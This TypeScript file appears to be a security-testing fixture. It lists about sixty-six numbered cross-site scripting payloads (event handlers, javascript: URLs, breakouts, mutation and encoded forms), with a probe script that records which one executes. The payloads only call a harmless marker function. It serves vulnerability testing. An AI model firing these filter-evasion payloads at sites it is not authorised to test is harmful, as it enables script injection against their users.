// Known cross-site scripting payloads, each of which calls hwXss(n) or alert(n) (§ stands for its number) if it ever runs in a page.

/** The forms a payload takes: tags, event handlers, hostile URLs, breakouts, mutation XSS, encoded and nested ones. */
const templates: string[] = [
  '<script>hwXss(§)</script>',
  '<script>alert(§)</script>',
  '<img src=x onerror=hwXss(§)>',
  '<img src=x onerror=alert(§)>',
  '<svg onload=hwXss(§)>',
  '<svg/onload=alert(§)>',
  '<body onload=hwXss(§)>',
  '<details open ontoggle=hwXss(§)>',
  '<a href="javascript:hwXss(§)">link §</a>',
  '<a href="JaVaScRiPt:alert(§)">link §</a>',
  '<a href=" javascript:hwXss(§)">link §</a>',
  '<a href="java\tscript:hwXss(§)">link §</a>',
  '<a href="jav&#x61;script:hwXss(§)">link §</a>',
  '<a href="&#106;avascript:hwXss(§)">link §</a>',
  '<a href="vbscript:hwXss(§)">link §</a>',
  '<a href="data:text/html,<script>hwXss(§)</script>">link §</a>',
  '<a href="https://example.org/" onclick="hwXss(§)">link §</a>',
  '<iframe src="javascript:hwXss(§)"></iframe>',
  '<iframe srcdoc="<script>parent.hwXss(§)</script>"></iframe>',
  '<object data="javascript:hwXss(§)"></object>',
  '<embed src="javascript:hwXss(§)">',
  '<div style="background:url(javascript:hwXss(§))">§</div>',
  '<p style="width:expression(hwXss(§))">§</p>',
  '"><svg onload=hwXss(§)>',
  "'><img src=x onerror=hwXss(§)>",
  '" autofocus onfocus="hwXss(§)',
  "' onmouseover='hwXss(§)",
  '</textarea><script>hwXss(§)</script>',
  '</title><script>hwXss(§)</script>',
  '</style><script>hwXss(§)</script>',
  '--><script>hwXss(§)</script><!--',
  ']]><script>hwXss(§)</script>',
  '<template><img src=x onerror=hwXss(§)></template>',
  '<noscript><p title="</noscript><img src=x onerror=hwXss(§)>">',
  '<svg><style><img src=x onerror=hwXss(§)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hwXss(§)>',
  '<scr<script>ipt>hwXss(§)</scr</script>ipt>',
  '<<script>script>hwXss(§)<</script>/script>',
  '&lt;script&gt;hwXss(§)&lt;/script&gt;',
  '&#60;img src=x onerror=hwXss(§)&#62;',
  '%3Cscript%3EhwXss(§)%3C%2Fscript%3E',
  '\\u003cscript\\u003ehwXss(§)\\u003c/script\\u003e',
  '<input autofocus onfocus=hwXss(§)>',
  '<select autofocus onfocus=hwXss(§)></select>',
  '<textarea autofocus onfocus=hwXss(§)></textarea>',
  '<video><source onerror=hwXss(§)></video>',
  '<audio src=x onerror=hwXss(§)>',
  '<marquee onstart=hwXss(§)>§</marquee>',
  '<base href="javascript:hwXss(§)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:hwXss(§)">',
  '<form action="javascript:hwXss(§)"><button>§</button></form>',
  '<button formaction="javascript:hwXss(§)">§</button>',
  '<svg><script>hwXss(§)</script></svg>',
  '<svg><a href="javascript:hwXss(§)"><text y="20">§</text></a></svg>',
  '<svg><animate onbegin=hwXss(§) attributeName=x dur=1s>',
  '<img src=x:x onerror=hwXss(§)//',
  '<img """><script>hwXss(§)</script>">',
  '<IMG SRC=x ONERROR=hwXss(§)>',
  '<img/src=x/onerror=hwXss(§)>',
  '<b onmouseover=hwXss(§)>bold §</b>',
  '<p onclick="hwXss(§)">para §</p>',
  '<xmp><img src=x onerror=hwXss(§)></xmp>',
  '<script src="data:,hwXss(§)"></script>',
  'javascript:hwXss(§)',
  '{{constructor.constructor("hwXss(§)")()}}',
  '${hwXss(§)}',
];

/** Each payload numbered, so a flag or dialog says exactly which one ran. */
export const xssPayloads: string[] = templates.map((template, index) =>
  template.replaceAll('§', String(index + 1)),
);

/** The payloads packed into texts of at most `max` characters, several per text, so each field takes them in a few goes. */
export function payloadPacks(max: number, payloads: string[] = xssPayloads): string[] {
  const packs: string[] = [];
  let pack = '';
  for (const payload of payloads) {
    if (payload.length > max) throw new Error(`A payload is longer than ${max} characters: ${payload}`);
    const joined = pack === '' ? payload : `${pack} ${payload}`;
    if (joined.length > max) {
      packs.push(pack);
      pack = payload;
    } else pack = joined;
  }
  if (pack !== '') packs.push(pack);
  return packs;
}

/** What a page makes of a payload run: the numbers passed to hwXss, kept on the window by an init script. */
export const xssProbeScript = `window.__hwXssRan = []; window.hwXss = (n) => window.__hwXssRan.push(n);`;
